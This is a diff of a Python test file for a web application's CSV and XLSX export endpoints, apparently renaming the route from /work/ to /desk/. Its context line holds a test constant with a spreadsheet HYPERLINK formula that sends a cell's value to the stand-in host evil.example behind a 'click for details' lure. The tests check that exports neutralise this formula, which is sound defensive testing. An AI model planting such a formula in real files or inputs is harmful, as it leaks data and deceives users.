@@ -13,7 +13,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我查看详情")'
 
 
 def _csv(client, query: str = "queue=all") -> list[list[str]]:
-    response = client.get(f"/work/export.csv?{query}")
+    response = client.get(f"/desk/export.csv?{query}")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
@@ -21,7 +21,7 @@ def _csv(client, query: str = "queue=all") -> list[list[str]]:
 
 
 def _xlsx(client, query: str = "queue=all") -> list[list]:
-    response = client.get(f"/work/export.xlsx?{query}")
+    response = client.get(f"/desk/export.xlsx?{query}")
     assert response.status_code == 200
     assert "attachment" in response["Content-Disposition"]
     sheet = load_workbook(io.BytesIO(response.content)).active
@@ -59,7 +59,7 @@ def test_export_neutralises_formula_text(world, as_user, read):
 
 def test_xlsx_stores_the_text_as_a_string_not_a_formula(world, as_user):
     world.opinion(text=EVIL)
-    response = as_user(world.office1).get("/work/export.xlsx?queue=all")
+    response = as_user(world.office1).get("/desk/export.xlsx?queue=all")
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
 
@@ -116,4 +116,4 @@ def test_leader_and_deputy_exports_have_no_personal_data_columns(world, as_user)
 
 
 def test_unknown_export_format_is_not_found(world, as_user):
-    assert as_user(world.office1).get("/work/export.pdf").status_code == 404
+    assert as_user(world.office1).get("/desk/export.pdf").status_code == 404
